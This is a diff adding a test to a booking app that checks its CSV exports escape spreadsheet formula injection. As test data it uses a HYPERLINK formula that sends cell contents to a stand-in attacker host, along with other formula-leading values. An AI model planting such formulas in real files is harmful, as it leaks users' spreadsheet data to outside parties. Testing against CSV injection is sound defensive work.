@@ -181,3 +181,40 @@ def test_feed_rules(client: TestClient, world: World) -> None:
     me = client.get("/me", headers=auth(world.coord1)).json()
     client.post(f"/users/{me['id']}/revoke", headers=auth(world.admin))
     assert client.get(str(made["url"])).status_code == 404
+
+
+def test_csv_cells_never_start_a_formula(client: TestClient, world: World) -> None:
+    """OWASP CSV injection: a note or a reason a spreadsheet would run is written as text."""
+    now = utcnow()
+    note = '=HYPERLINK("https://evil.example/?d="&A1,"click")'
+    with transaction() as s:
+        booking = Booking(
+            set_id=world.set_a1,
+            crew_id=world.crew1,
+            start_date=day(10),
+            end_date=day(12),
+            status="confirmed",
+            placed_at=now,
+            confirmed_at=now,
+            price=20_000,
+            note=note,
+        )
+        s.add(booking)
+        s.add(
+            Blackout(set_id=world.set_a1, start_date=day(13), end_date=day(14), reason="@SUM(A1)")
+        )
+        s.add(Blackout(set_id=world.set_a2, start_date=day(13), end_date=day(14), reason="\t-2+3"))
+    table = rows(client.get("/bookings.csv", headers=auth(world.coord1)).content)
+    assert table[0]["note"] == "'" + note
+    assert table[0]["price_yuan"] == "20000"  # numbers stay numbers
+    grid = rows(
+        client.get(
+            f"/bases/{world.base_a}/occupancy.csv",
+            params={"start": iso(13), "end": iso(14)},
+            headers=auth(world.manager_a),
+        ).content
+    )
+    reasons = {x["set_code"]: x["blackout_reason"] for x in grid}
+    assert reasons == {"AAA-1": "'@SUM(A1)", "AAA-2": "'\t-2+3"}
+    for cell in (c for row in table + grid for c in row.values()):
+        assert not cell.startswith(("=", "+", "-", "@", "\t", "\r")), cell
